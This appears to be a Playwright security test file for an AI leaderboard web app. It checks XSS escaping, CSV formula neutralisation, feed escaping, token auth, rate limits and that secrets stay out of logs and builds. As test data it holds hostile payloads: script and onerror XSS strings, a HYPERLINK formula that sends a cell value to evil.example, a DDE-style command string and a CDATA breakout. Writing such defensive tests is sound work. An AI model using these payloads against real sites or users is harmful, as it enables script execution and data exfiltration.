// Security on the production server, each against its own instance: hostile model and organization names stay
// inert on every page, in CSV, the feed and OG images; the rate limit answers 429 with Retry-After on API and fast
// path alike; methods, NUL bytes, the cron and metrics tokens; and no secret reaches a log or the build output.
import { existsSync, readdirSync, readFileSync, statSync } from "node:fs";
import path from "node:path";
import { expect, test, type Page } from "@playwright/test";
import { SaxesParser } from "saxes";
import {
  ARENA_TYPES,
  arenaRow,
  createHubFixture,
  HF_TYPES,
  hfRow,
  toParquet,
  type HubFixture,
} from "../fixtures/hub-fixture";
import { createTestDatabase, startInstance, type AppInstance, type TestDatabase } from "./app-instance";
import { appRoutes } from "./routes";

test.describe.configure({ mode: "serial" });

/** Payloads that run (set window.__xss) if any page renders them as markup. */
const EVIL_MODEL = `<img src=x onerror="window.__xss=1">`;
const EVIL_ORG = `"><script>window.__xss=2</script>`;
const FORMULA_MODEL = `=HYPERLINK("http://evil.example/?"&A1,"x")`;
const EVIL_HF = `evil"><svg onload=window.__xss=3>/@SUM(1+1)`;
const CDATA_MODEL = `q]]>x]]><injected a="1"/>`;

async function hostileMirror(): Promise<HubFixture> {
  const date = "2025-05-01";
  const next = "2025-05-08";
  const first = (d: string) => [
    arenaRow(EVIL_MODEL, 1, d, { organization: EVIL_ORG, rating: 1400, license: "+cmd|' /C calc'!A0" }),
    arenaRow(FORMULA_MODEL, 2, d, { organization: "@SUM(1+1)", rating: 1390 }),
    arenaRow("gpt-4o-2024-05-13", 3, d, { organization: "OpenAI", rating: 1300 }),
  ];
  // On the second date a Chinese model with a key that closes CDATA sections twice reaches the top: its milestones
  // put the key into the feed's titles.
  const arena = [
    ...first(date),
    arenaRow(CDATA_MODEL, 1, next, { organization: "DeepSeek", rating: 1410 }),
    ...first(next).map((r, i) => ({ ...r, rank: BigInt(i + 2) })),
  ];
  return createHubFixture({
    arena: [
      { path: "text/full-00000-of-00001.parquet", bytes: toParquet(arena, ARENA_TYPES) },
      { path: "text/latest-00000-of-00001.parquet", bytes: toParquet(arena, ARENA_TYPES) },
    ],
    hf: [
      {
        id: "a".repeat(40),
        date: "2025-01-01",
        shards: [
          {
            path: "data/train-00000-of-00001.parquet",
            bytes: toParquet(
              [hfRow(EVIL_HF, 50, { "Official Providers": true }), hfRow("Qwen/Qwen2.5-72B-Instruct", 40)],
              HF_TYPES,
            ),
          },
        ],
      },
    ],
  });
}

const SECRETS = {
  CRON_SECRET: "cron-secret-that-must-never-be-logged-7f3a",
  METRICS_TOKEN: "metrics-token-that-must-never-be-logged-9c1d",
  DB_PASSWORD: "db-password-never-logged-5e2b",
};

let mirror: HubFixture;
let db: TestDatabase;
let app: AppInstance;

test.beforeAll(async () => {
  test.setTimeout(180_000);
  mirror = await hostileMirror();
  db = await createTestDatabase("security", { hub: mirror.fileEndpoint });
  // Trust auth ignores the password, so it can be set just to prove it never reaches a log.
  const url = new URL(db.url);
  url.password = SECRETS.DB_PASSWORD;
  app = await startInstance({
    DATABASE_URL: url.toString(),
    HF_ENDPOINT: mirror.fileEndpoint,
    CRON_SECRET: SECRETS.CRON_SECRET,
    METRICS_TOKEN: SECRETS.METRICS_TOKEN,
    RATE_LIMIT: "off",
  });
});
test.afterAll(async () => {
  await app?.stop();
  await db?.drop();
  await mirror?.cleanup();
});

/** Checks a page ran nothing; returns whether the hostile names were shown on it, as text. */
async function expectInert(page: Page, url: string): Promise<boolean> {
  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const res = await page.goto(`${app.base}${url}`);
  expect(res?.status() ?? 0, url).toBeLessThan(500);
  await page.waitForLoadState("networkidle").catch(() => {});
  const shown = await page.evaluate(
    ([a, b]) => document.body.innerText.includes(a) || document.body.innerText.includes(b),
    [EVIL_MODEL, EVIL_ORG],
  );
  const state = await page.evaluate(() => ({
    xss: (window as unknown as { __xss?: number }).__xss ?? null,
    handlers: document.querySelectorAll("[onerror],[onload]").length,
    scripts: [...document.scripts].filter(
      (s) => (s.textContent ?? "").includes("window.__xss=2") && !s.textContent!.includes("\\u003c"),
    ).length,
  }));
  expect(state, url).toEqual({ xss: null, handlers: 0, scripts: 0 });
  expect(dialogs, url).toEqual([]);
  return shown;
}

test("hostile names render inert on every page", async ({ page }) => {
  test.setTimeout(300_000);
  const sample = {
    board: "lmarena-text",
    model: EVIL_MODEL,
    country: "unknown",
    date: "2025-05-01",
    slug: "openai",
    file: "us.svg",
    path: "x",
  };
  const pages = appRoutes(sample).filter((r) => r.kind === "page");
  const urls = [
    ...pages.map((r) => r.sample),
    `/models/hf-open-llm-v2/${encodeURIComponent(EVIL_HF.replace("/", "_"))}_bfloat16`,
    "/?board=lmarena-text&countries=US~unknown",
    "/?board=hf-open-llm-v2&official=false",
  ];
  let shownOn = 0;
  for (const url of urls) if (await expectInert(page, url)) shownOn += 1;
  // The payloads were really on the pages, as visible text: the test could have caught them running.
  expect(shownOn).toBeGreaterThanOrEqual(2);
});

test("hostile names are neutralised in every CSV the API offers", async ({ request }) => {
  const csvUrls = [
    "/api/v1/standings?board=lmarena-text&countries=unknown~US&format=csv",
    "/api/v1/boards/lmarena-text/snapshots/2025-05-01?format=csv",
    "/api/v1/boards/hf-open-llm-v2/snapshots/2025-01-01?format=csv",
    `/api/v1/models/lmarena-text/${encodeURIComponent(FORMULA_MODEL)}?format=csv`,
  ];
  let cells = 0;
  for (const url of csvUrls) {
    const res = await request.get(`${app.base}${url}`);
    expect(res.status(), url).toBe(200);
    const text = await res.text();
    // Every cell, unquoted: none may start a formula (= + - @) unless it is a number.
    for (const line of text.split("\r\n").filter(Boolean)) {
      for (const raw of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []) {
        const cell = raw
          .replace(/,$/, "")
          .replace(/^"(.*)"$/s, "$1")
          .replaceAll('""', '"');
        cells += 1;
        if (/^-?\d/.test(cell)) continue;
        expect(cell, `${url}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
  }
  expect(cells).toBeGreaterThan(20);
});

test("hostile names are escaped in the feed and OG images draw without running anything", async ({ request }) => {
  const routes = appRoutes({
    board: "lmarena-text",
    model: "gpt-4o-2024-05-13",
    country: "US",
    slug: "openai",
    date: "2025-05-01",
    file: "us.svg",
    path: "x",
  });
  const feed = routes.find((r) => r.pattern.endsWith(".xml"));
  test.info().annotations.push({ type: "feed", description: feed ? feed.pattern : "no feed route yet" });
  if (feed) {
    const res = await request.get(`${app.base}${feed.sample}`);
    expect(res.status()).toBe(200);
    const xml = await res.text();
    expect(xml).not.toContain("<script");
    expect(xml).not.toContain("<img");
    expect(xml).not.toContain("<svg onload");
    // A conforming parser reads it whole: no injected element, and the hostile key back as text in a title.
    const elements: string[] = [];
    const titles: string[] = [];
    let text = "";
    const parser = new SaxesParser();
    parser.on("error", (err) => {
      throw err;
    });
    parser.on("opentag", (t) => (elements.push(t.name), (text = "")));
    parser.on("text", (t) => (text += t));
    parser.on("closetag", (t) => t.name === "title" && titles.push(text));
    parser.write(xml).close();
    expect(elements).not.toContain("injected");
    expect(titles.some((t) => t.includes(CDATA_MODEL))).toBe(true);
  }
  const images = routes.filter((r) => r.kind === "image");
  test.info().annotations.push({ type: "og", description: `${images.length} image routes` });
  for (const img of images) {
    const res = await request.get(`${app.base}${img.sample}`);
    expect(res.status(), img.sample).toBe(200);
    expect(res.headers()["content-type"]).toMatch(/^image\//);
  }
});

test("the cron route refuses no token and a wrong token; the right one runs ingestion", async ({ request }) => {
  expect((await request.post(`${app.base}/api/cron/ingest`)).status()).toBe(401);
  expect(
    (
      await request.post(`${app.base}/api/cron/ingest`, { headers: { authorization: "Bearer wrong-token-0000000000" } })
    ).status(),
  ).toBe(401);
  expect(
    (
      await request.post(`${app.base}/api/cron/ingest`, {
        headers: { authorization: `Bearer ${SECRETS.CRON_SECRET}x` },
      })
    ).status(),
  ).toBe(401);
  const ok = await request.post(`${app.base}/api/cron/ingest`, {
    headers: { authorization: `Bearer ${SECRETS.CRON_SECRET}` },
  });
  expect([200, 502]).toContain(ok.status()); // 502: the price source has no mirror here, and says so
  expect((await ok.json()).runs.length).toBeGreaterThan(0);
});

test("metrics need the token, and count requests and ingest runs", async ({ request }) => {
  expect((await request.get(`${app.base}/api/metrics`)).status()).toBe(401);
  const res = await request.get(`${app.base}/api/metrics`, {
    headers: { authorization: `Bearer ${SECRETS.METRICS_TOKEN}` },
  });
  expect(res.status()).toBe(200);
  const text = await res.text();
  expect(text).toMatch(/atlas_http_request_duration_seconds_count\{route="page",method="GET",status="200"\} \d+/);
  expect(text).toMatch(/atlas_ingest_runs_total\{source="lmarena-text",trigger="cron",status="\w+"\} 1/);
  expect(text).toMatch(/atlas_data_age_seconds\{source="lmarena-text"\} \d+/);
});

test("methods other than GET/HEAD/POST/OPTIONS get 405; a NUL byte gets 400; both in the API's shape", async () => {
  const http = await import("node:http");
  const raw = (method: string, p: string) =>
    new Promise<{ status: number; body: string }>((resolve, reject) => {
      const req = http.request(`${app.base}${p}`, { method }, (res) => {
        let body = "";
        res.on("data", (d) => (body += d));
        res.on("end", () => resolve({ status: res.statusCode!, body }));
      });
      req.on("error", reject);
      req.end();
    });
  for (const method of ["TRACE", "PUT", "DELETE"]) {
    const r = await raw(method, "/api/v1/standings?board=lmarena-text");
    expect(r.status, method).toBe(405);
    expect(JSON.parse(r.body).error.code).toBe("method_not_allowed");
  }
  const nul = await raw("GET", "/api/v1/models/lmarena-text/gpt%00x");
  expect(nul.status).toBe(400);
  expect((await raw("GET", "/?board=lmarena%00text")).status).toBe(400);
});

test("no secret appears in the logs; every request is logged with its id; the log names the bound address", async ({
  request,
}) => {
  const res = await request.get(`${app.base}/api/v1/standings?board=lmarena-text`, {
    headers: { "x-request-id": "proof-req-0001" },
  });
  expect(res.headers()["x-request-id"]).toBe("proof-req-0001");
  await new Promise((r) => setTimeout(r, 200));
  const log = app.output();
  for (const secret of Object.values(SECRETS)) expect(log).not.toContain(secret);
  expect(log).toMatch(/"reqId":"proof-req-0001"[^\n]*"path":"\/api\/v1\/standings"/);
  expect(log).toContain(`ready on http://127.0.0.1:${app.port}`);
});

test("the rate limit answers 429 with Retry-After on the API, on the fast path too, and spares pages", async ({
  request,
}) => {
  const limited = await startInstance({ DATABASE_URL: db.url, RATE_LIMIT: "6/60" });
  try {
    const url = `${limited.base}/api/v1/standings?board=lmarena-text&metric=best-score`;
    const seen: { status: number; cache?: string; retry?: string }[] = [];
    for (let i = 0; i < 8; i++) {
      const r = await request.get(url, { failOnStatusCode: false });
      seen.push({ status: r.status(), cache: r.headers()["x-cache"], retry: r.headers()["retry-after"] });
    }
    expect(seen.slice(0, 6).every((s) => s.status === 200)).toBe(true);
    // Repeat GETs were answered by the fast path, and it is limited like the rest.
    expect(seen.some((s) => s.cache === "hot")).toBe(true);
    expect(seen.slice(6).map((s) => s.status)).toEqual([429, 429]);
    expect(Number(seen[6].retry)).toBeGreaterThanOrEqual(1);
    expect((await request.get(`${limited.base}/status`, { failOnStatusCode: false })).status()).toBe(200);
  } finally {
    await limited.stop();
  }
});

test("the build output holds no secret, connection string or source map", () => {
  const root = path.resolve(import.meta.dirname, "../..");
  const dirs = [".next/static", ".next/server", ".next/standalone/.next/static"]
    .map((d) => path.join(root, d))
    .filter(existsSync);
  expect(dirs.length).toBeGreaterThan(0);
  // Values of sensitive variables in this environment (CI sets none; a developer's shell might).
  const sensitive = Object.entries(process.env)
    .filter(([k, v]) => /SECRET|TOKEN|PASSWORD|API_KEY/i.test(k) && v && v.length >= 8)
    .map(([, v]) => v!);
  const offenders: string[] = [];
  const walk = (dir: string) => {
    for (const name of readdirSync(dir)) {
      const file = path.join(dir, name);
      const info = statSync(file);
      if (info.isDirectory()) walk(file);
      else if (info.size < 20_000_000 && /\.(js|json|html|rsc|txt|css|map|body|meta)$/.test(name)) {
        if (dir.includes("static") && name.endsWith(".map")) offenders.push(`${file}: a source map is served`);
        const text = readFileSync(file, "utf8");
        if (/postgres(ql)?:\/\/[^"'\s]*:[^"'\s@]+@/.test(text))
          offenders.push(`${file}: a connection string with a password`);
        for (const s of [...sensitive, ...Object.values(SECRETS)])
          if (text.includes(s)) offenders.push(`${file}: a secret value`);
      }
    }
  };
  dirs.forEach(walk);
  expect(offenders).toEqual([]);
});
